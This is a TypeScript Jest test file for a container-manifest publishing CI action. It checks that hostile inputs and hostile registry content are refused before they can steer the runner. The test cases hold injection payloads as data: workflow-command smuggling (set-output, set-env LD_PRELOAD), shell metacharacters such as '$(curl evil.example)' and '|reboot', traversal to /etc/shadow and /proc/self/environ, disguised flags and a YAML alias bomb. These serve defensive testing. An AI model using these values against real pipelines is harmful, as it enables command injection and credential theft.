/**
 * Issue 12: nothing from inputs or registries can steer the runner. Hostile inputs are refused before
 * any registry request; hostile registry content is refused with its text escaped; in no case does a
 * line of the action's stdout read as a workflow command the action did not mean, nor does an output,
 * a state entry, an env or path entry appear that the action does not declare.
 *
 * Runs the bundle in MP_ACTION_DIR (a dir with action.yml and dist/) when set, else the committed one.
 */
import { execFileSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { loadActionYml, runAction, RunResult, ROOT } from '../harness/action'
import { pushImage, pushIndex, putManifest, inspectRaw, MT } from '../harness/images'
import { STATE } from '../../src/state'
import { foreignCommands } from '../workflow-commands'
import { TIMEOUT, explain, inputs, pushArches, twoProxies, twoRegistries } from './fixtures'

jest.setTimeout(TIMEOUT)

const actionDir = process.env.MP_ACTION_DIR || ROOT
const OUTPUTS = new Set(Object.keys(loadActionYml(actionDir).outputs ?? {}))
const STATE_KEYS = new Set<string>(Object.values(STATE))

interface Run extends RunResult {
  /** GITHUB_ENV and GITHUB_PATH as the run left them. */
  envFile: string
  pathFile: string
}

function buildahVersion(): string {
  return (JSON.parse(execFileSync('buildah', ['version', '--json'], { encoding: 'utf8' })) as { version: string }).version
}

async function run(given: Record<string, string>): Promise<Run> {
  const r = await runAction(given, { actionDir, keepTemp: true })
  try {
    return {
      ...r,
      envFile: fs.readFileSync(path.join(r.tempDir, 'env'), 'utf8'),
      pathFile: fs.readFileSync(path.join(r.tempDir, 'path'), 'utf8')
    }
  } finally {
    fs.rmSync(r.tempDir, { recursive: true, force: true })
  }
}

/** Nothing steered the runner: no command the action did not mean, only its own outputs and state, no env or path. */
function expectNothingSteered(r: Run): void {
  const foreign = foreignCommands(r.steps.map(s => s.stdout).join('\n'))
  if (foreign.length > 0) throw new Error(`workflow commands the action did not mean: ${JSON.stringify(foreign, null, 2)}\n${explain(r)}`)
  expect(Object.keys(r.outputs).filter(name => !OUTPUTS.has(name))).toEqual([])
  expect(Object.keys(r.stateValues).filter(name => !STATE_KEYS.has(name))).toEqual([])
  expect(r.envFile).toBe('')
  expect(r.pathFile).toBe('')
}

describe('hostile inputs: refused before any registry request, and nothing steered', () => {
  const regs = twoRegistries()
  const proxies = twoProxies(regs)
  const repo = 'hostile/inputs'
  const arches = ['x86_64', 'aarch64']
  beforeAll(async () => {
    await pushArches(regs.r1.host, repo, '1', arches)
  })

  const cmd = '::set-output name=digest::sha256:evil'
  const mask = '::add-mask::'
  const save = '::save-state name=local-list::evil'
  const delimiter = 'ghadelimiter_0b6f1d0c-0000-4000-8000-000000000000'
  const big = 'a'.repeat(10_240)
  const bomb = [
    'a: &a [x, x, x, x, x, x, x, x, x]',
    'b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]',
    'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]',
    'd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]'
  ].join('\n')

  /** [what, the input it must name, inputs given the two proxies' hosts]. */
  const CASES: Array<[string, string, (h1: string, h2: string) => Record<string, string>]> = [
    // Line breaks carrying workflow commands
    ['tag + newline + set-output', 'tag', () => ({ tag: `1\n${cmd}` })],
    ['tag + CRLF + add-mask', 'tag', () => ({ tag: `1\r\n${mask}1` })],
    ['tag + CR + save-state', 'tag', () => ({ tag: `1\r${save}` })],
    ['repo + newline + add-mask', 'repo', () => ({ repo: `${repo}\n${mask}${repo}` })],
    ['aliases + newline + set-output', 'aliases', () => ({ aliases: `latest\n${cmd}` })],
    ['arches + newline + save-state', 'arches', () => ({ arches: `x86_64\n${save}` })],
    ['registries + newline + set-output', 'registries', h1 => ({ registries: `${h1}\n::set-output name=destinations::["evil"]` })],
    ['arch-tag-registry + newline + add-mask', 'arch-tag-registry', h1 => ({ 'arch-tag-registry': `${h1}\n${mask}${h1}` })],
    ['arch-tag + newline + save-state', 'arch-tag', () => ({ 'arch-tag': `{tag}-{arch}\n${save}` })],
    [
      'missing-arch-policy + newline + set-output',
      'missing-arch-policy',
      () => ({ 'missing-arch-policy': `drop\n::set-output name=result::published` })
    ],
    ['format + CR + add-mask', 'format', () => ({ format: `oci\r${mask}oci` })],
    ['annotations + newline + set-output', 'annotations', () => ({ annotations: `a=b\n${cmd}` })],
    ['retries + newline + set-output', 'retries', () => ({ retries: `3\n::set-output name=result::published` })],
    ['dry-run + newline + add-path', 'dry-run', () => ({ 'dry-run': 'true\n::add-path::/tmp/evil' })],
    ['tls-verify + newline + set-env', 'tls-verify', () => ({ 'tls-verify': 'false\n::set-env name=LD_PRELOAD::/tmp/evil.so' })],
    ['summary + newline + stop-commands', 'summary', () => ({ summary: 'true\n::stop-commands::x' })],
    ['cert-dir + newline + add-mask', 'cert-dir', () => ({ 'cert-dir': `/tmp/none\n${mask}x` })],
    ['legacy ##[ command in a tag', 'tag', () => ({ tag: '1##[set-output name=digest;]evil' })],
    ['leading blanks then :: in aliases', 'aliases', () => ({ aliases: `["  ${cmd}"]` })],
    // GITHUB_OUTPUT heredoc delimiters
    ['heredoc delimiter in tag', 'tag', () => ({ tag: `1\n${delimiter}\nresult=published` })],
    ['heredoc opener in aliases', 'aliases', () => ({ aliases: `x<<${delimiter}` })],
    // Shell metacharacters
    ['$(id) in tag', 'tag', () => ({ tag: '$(id)' })],
    ['; in repo', 'repo', () => ({ repo: 'hello;id' })],
    ['backticks in registries', 'registries', () => ({ registries: '`id`' })],
    ['| in arch-tag', 'arch-tag', () => ({ 'arch-tag': '{tag}-{arch}|reboot' })],
    ['$(curl) in arch-tag-registry', 'arch-tag-registry', () => ({ 'arch-tag-registry': '$(curl evil.example)' })],
    // Unicode look-alikes and invisible characters
    ['fullwidth colon in tag', 'tag', () => ({ tag: '1\uff1alatest' })],
    ['right-to-left override in tag', 'tag', () => ({ tag: '1\u202etsetal' })],
    ['zero-width space in arches', 'arches', () => ({ arches: 'x86_64\u200b aarch64' })],
    ['zero-width joiner in repo', 'repo', () => ({ repo: 'hel\u200dlo' })],
    ['fullwidth dot in registries', 'registries', () => ({ registries: 'quay\uff0eio' })],
    // 10 kB values
    ['10 kB tag', 'tag', () => ({ tag: big })],
    ['10 kB aliases', 'aliases', () => ({ aliases: big })],
    ['10 kB arch-map', 'arch-map', () => ({ 'arch-map': `{rv: linux/riscv64, pad: "${big}"}` })],
    ['10 kB repo', 'repo', () => ({ repo: big })],
    // Path tricks
    ['../ in repo', 'repo', () => ({ repo: '../../etc' })],
    ['auth-file ../ to /etc/passwd', 'auth-file', () => ({ 'auth-file': '../../../../../../../../etc/passwd' })],
    ['auth-file /etc/shadow', 'auth-file', () => ({ 'auth-file': '/etc/shadow' })],
    ['auth-file /proc/self/environ', 'auth-file', () => ({ 'auth-file': '/proc/self/environ' })],
    ['cert-dir that is a file', 'cert-dir', () => ({ 'cert-dir': '/etc/passwd' })],
    ['../ in arch-tag', 'arch-tag', () => ({ 'arch-tag': '../{arch}' })],
    // YAML alias bombs
    ['alias bomb in arch-map', 'arch-map', () => ({ 'arch-map': bomb })],
    ['aliases in an arches flow list', 'arches', () => ({ arches: '[&a x86_64, *a, *a]' })],
    // Flags disguised as values
    ['--authfile in tag', 'tag', () => ({ tag: '--authfile=/etc/shadow' })],
    ['--authfile in registries', 'registries', () => ({ registries: '--authfile=/etc/shadow' })],
    ['-x in aliases', 'aliases', () => ({ aliases: '-x' })],
    ['--help in arches', 'arches', () => ({ arches: '--help' })],
    ['-x in repo', 'repo', () => ({ repo: '-x' })],
    ['--cert-dir in cert-dir', 'cert-dir', () => ({ 'cert-dir': '--cert-dir=/etc' })],
    // URLs with userinfo
    ['https://u:p@host in registries', 'registries', h1 => ({ registries: `https://bot:hunter2@${h1}` })],
    ['u:p@host in arch-tag-registry', 'arch-tag-registry', h1 => ({ 'arch-tag-registry': `bot:hunter2@${h1}/ns` })],
    // Inputs that would destroy data
    ['an alias equal to a per-arch tag', 'aliases', () => ({ aliases: '1-x86_64' })],
    ['a tag equal to a per-arch tag', 'tag', () => ({ tag: 'x86_64', 'arch-tag': '{arch}' })],
    ['the same registry twice', 'registries', (h1, h2) => ({ registries: `${h1} ${h2} ${h1}/` })],
    // The per-arch-tag guard compares places, not spellings: a capitalised host, Docker Hub's aliases.
    [
      'a per-arch tag alias, arch-tag-registry host capitalised',
      'aliases',
      h1 => ({
        registries: h1.replace('127.0.0.1', 'localhost'),
        'arch-tag-registry': h1.replace('127.0.0.1', 'LOCALHOST'),
        aliases: '1-x86_64'
      })
    ],
    [
      'a per-arch tag alias, arch-tag-registry as index.docker.io',
      'aliases',
      () => ({ registries: 'docker.io/hostile', 'arch-tag-registry': 'index.docker.io/hostile', aliases: '1-x86_64' })
    ],
    [
      'a per-arch tag alias, registries a Docker Hub short name',
      'aliases',
      () => ({ registries: 'hostile', 'arch-tag-registry': 'index.docker.io/hostile', aliases: '1-x86_64' })
    ],
    // Credentials
    ['a password (with a command) but no username', 'username', () => ({ password: `pw\n${cmd}` })],
    ['a username with a command', 'username', () => ({ username: `bot\n${mask}bot`, password: 'pw' })],
    ['a username with a colon', 'username', () => ({ username: 'bot:admin', password: 'pw' })]
  ]

  test('the table is big enough', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40)
  })

  test('control: a valid run through the proxies does reach the registries', async () => {
    const before = proxies.p1.counts.total + proxies.p2.counts.total
    const r = await run(inputs([proxies.p1.host, proxies.p2.host], repo, '1', arches, { 'dry-run': 'true' }))
    expect(r.code).toBe(0)
    expect(proxies.p1.counts.total + proxies.p2.counts.total).toBeGreaterThan(before)
    expectNothingSteered(r)
  })

  test.each(CASES)('%s: refused naming input "%s", 0 requests', async (_, name, make) => {
    const given = { ...inputs([proxies.p1.host, proxies.p2.host], repo, '1', arches), ...make(proxies.p1.host, proxies.p2.host) }
    const before = proxies.p1.counts.total + proxies.p2.counts.total
    const r = await run(given)
    expect({ code: r.code, requests: proxies.p1.counts.total + proxies.p2.counts.total - before }).toEqual({ code: 1, requests: 0 })
    expectNothingSteered(r)
    // The refusal names the input, as a plain line (Forgejo) and as an annotation (GitHub).
    expect(r.stdout).toMatch(new RegExp(`^::error::Input "${name}": `, 'm'))
    expect(r.stdout).toMatch(new RegExp(`^Error: Input "${name}": `, 'm'))
    expect(r.outputs.result).toBe('failed')
    expect(r.outputs.digest).toBe('')
    // What it quoted was cut short, and no credential came back.
    for (const line of r.stdout.split('\n')) expect(line.length).toBeLessThan(1200)
    expect(r.all).not.toContain('hunter2')
  })

  // Only a runner's buildah can tell: the versions are read alongside the first registry reads,
  // except when annotations need one. scripts/test-newer-buildah (1.35+) writes them instead.
  const annotationsUnsupported = Number(/^1\.(\d+)\./.exec(buildahVersion())?.[1] ?? 99) < 35
  ;(annotationsUnsupported ? describe : describe.skip)('annotations with a buildah older than 1.35', () => {
    test('refused before any registry request', async () => {
      const before = proxies.p1.counts.total + proxies.p2.counts.total
      const r = await run({
        ...inputs([proxies.p1.host, proxies.p2.host], repo, '1', arches),
        annotations: 'org.opencontainers.image.version=40'
      })
      expect({ code: r.code, requests: proxies.p1.counts.total + proxies.p2.counts.total - before }).toEqual({ code: 1, requests: 0 })
      expect(r.stdout).toMatch(/^::error::input "annotations" needs buildah 1\.35 or newer/m)
      expect(r.outputs.result).toBe('failed')
      expectNothingSteered(r)
    })
  })
})

describe('hostile registry content: refused escaped, nothing published, nothing steered', () => {
  const regs = twoRegistries()
  const evil = 'amd64\n::set-output name=digest::sha256:evil'

  /** Per-arch images, and a current list at `:1` built from `entries` (raw index entries). */
  async function currentList(
    repo: string,
    entries: (images: Record<string, { digest: string; size: number }>) => unknown[],
    annotations?: Record<string, string>
  ): Promise<string> {
    const images = await pushArches(regs.r1.host, repo, '1', ['x86_64', 'aarch64'])
    const index = { schemaVersion: 2, mediaType: MT.ociIndex, manifests: entries(images), ...(annotations ? { annotations } : {}) }
    return (await putManifest({ host: regs.r1.host, repo }, '1', Buffer.from(JSON.stringify(index)), MT.ociIndex)).digest
  }
  const entry = (d: { digest: string; size: number }, platform: unknown, extra: Record<string, unknown> = {}): unknown => ({
    mediaType: MT.ociManifest,
    digest: d.digest,
    size: d.size,
    platform,
    ...extra
  })

  /** The run failed, quoting `shown` (the hostile text escaped), and `:1` still serves `before`. */
  async function expectRefused(r: Run, repo: string, before: string | null, shown: string): Promise<void> {
    expect(r.code).toBe(1)
    expectNothingSteered(r)
    expect(r.stdout).toContain(shown)
    expect(r.summary).not.toMatch(/\n::/)
    expect(r.outputs.digest).toBe('')
    expect(r.outputs.result).toBe('failed')
    const served = await inspectRaw(regs.r1.host, `${repo}:1`, { allowMissing: true })
    expect(served ? served.digest : null).toBe(before)
  }

  test('a current list whose platform architecture holds a workflow command', async () => {
    const repo = 'hostile/platform'
    const before = await currentList(repo, i => [
      entry(i.x86_64, { os: 'linux', architecture: evil }),
      entry(i.aarch64, { os: 'linux', architecture: 'arm64' })
    ])
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, before, 'architecture "amd64\\n::set-output name=digest::sha256:evil"')
  })

  test('a current list whose variant holds an escape sequence and a right-to-left override', async () => {
    const repo = 'hostile/variant'
    const before = await currentList(repo, i => [
      entry(i.x86_64, { os: 'linux', architecture: 'amd64', variant: 'v1\u001b[2J\u202e' }),
      entry(i.aarch64, { os: 'linux', architecture: 'arm64' })
    ])
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, before, 'variant "v1\\u001b[2J\\u202e"')
  })

  test('a current list with an annotation key holding newlines and add-mask', async () => {
    const repo = 'hostile/annotation-key'
    const before = await currentList(
      repo,
      i => [entry(i.x86_64, { os: 'linux', architecture: 'amd64' }), entry(i.aarch64, { os: 'linux', architecture: 'arm64' })],
      {
        'org.example\n::add-mask::1\n::set-output name=result::published': 'x'
      }
    )
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, before, 'annotation key "org.example\\n::add-mask::1\\n::set-output name=result::published"')
  })

  test('a current list with an absurd entry size', async () => {
    const repo = 'hostile/size'
    const before = await currentList(repo, i => [
      entry(i.x86_64, { os: 'linux', architecture: 'amd64' }, { size: 99_999_999_999 }),
      entry(i.aarch64, { os: 'linux', architecture: 'arm64' })
    ])
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, before, 'size 99999999999')
  })

  test('a current list with an unknown entry media type', async () => {
    const repo = 'hostile/media-type'
    const before = await currentList(repo, i => [
      entry(i.x86_64, { os: 'linux', architecture: 'amd64' }, { mediaType: 'application/vnd.evil\n::add-mask::sha256' }),
      entry(i.aarch64, { os: 'linux', architecture: 'arm64' })
    ])
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, before, 'unknown media type "application/vnd.evil\\n::add-mask::sha256"')
  })

  test('a per-arch image whose config architecture holds a workflow command', async () => {
    const repo = 'hostile/config'
    await pushImage({ host: regs.r1.host, repo, tag: '1-x86_64', architecture: 'amd64' })
    await pushImage({ host: regs.r1.host, repo, tag: '1-aarch64', architecture: `arm64\n::save-state name=local-list::evil` })
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, null, 'architecture "arm64\\n::save-state name=local-list::evil"')
  })

  test('a per-arch tag that is an index with a hostile platform', async () => {
    const repo = 'hostile/index-source'
    await pushImage({ host: regs.r1.host, repo, tag: '1-x86_64', architecture: 'amd64' })
    const arm = await pushImage({ host: regs.r1.host, repo, architecture: 'arm64', salt: 'child' })
    await pushIndex({
      host: regs.r1.host,
      repo,
      tag: '1-aarch64',
      manifests: [{ ...arm, platform: { os: `linux\r\n${'::add-mask::'}linux`, architecture: 'arm64' } }]
    })
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    await expectRefused(r, repo, null, 'os "linux\\r\\n::add-mask::linux"')
  })

  test('a multi-line annotation value is legal (descriptions): kept out of the log, and the run goes on', async () => {
    const repo = 'hostile/annotation-value'
    await currentList(
      repo,
      i => [entry(i.x86_64, { os: 'linux', architecture: 'amd64' }), entry(i.aarch64, { os: 'linux', architecture: 'arm64' })],
      {
        'org.opencontainers.image.description': 'line 1\n::add-mask::1\n::set-output name=result::published'
      }
    )
    const r = await run(inputs([regs.r1.host], repo, '1', ['x86_64', 'aarch64']))
    expect(r.code).toBe(0)
    expectNothingSteered(r)
    expect(r.outputs.result).toBe('published')
  })
})
